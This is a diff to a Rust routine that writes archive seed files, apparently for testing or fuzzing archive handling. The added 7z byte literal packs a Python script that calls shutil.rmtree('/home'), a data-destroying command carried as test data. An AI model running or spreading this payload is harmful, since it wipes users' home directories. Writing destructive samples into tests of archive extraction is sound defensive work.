@@ -105,6 +105,13 @@ fn write(folder: PathBuf) -> Anything<()> {
     let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
     gzip.write_all(&tar)?;
     let gzip = gzip.finish()?;
+    // Made by 7-Zip: a program as it is, and a header that is not packed.
+    let seven = b"7z\xbc\xaf'\x1c\0\x04\xd9\xdc\x88\xe5%\0\0\0\0\0\0\0:\0\0\0\0\0\0\0 \xbf\
+        A#import shutil\nshutil.rmtree(\
+        '/home')\n\x01\x04\x06\0\x01\x09%\0\x07\x0b\x01\0\x01\x01\0\x0c%\0\x08\n\x01\
+        \xfc\xb2K\xac\0\0\x05\x01\x11\x0f\0x\0/\0a\0.\0p\0y\0\0\0\x19\0\x15\x06\x01\
+        \0 \x80\xa4\x81\0\0";
+    seeds.file("a", seven)?;
     for (name, bytes) in [("a.tar", &tar), ("a.zip", &zip), ("a.tgz", &gzip), ("a", &zip)] {
         seeds.file(name, bytes)?;
     }
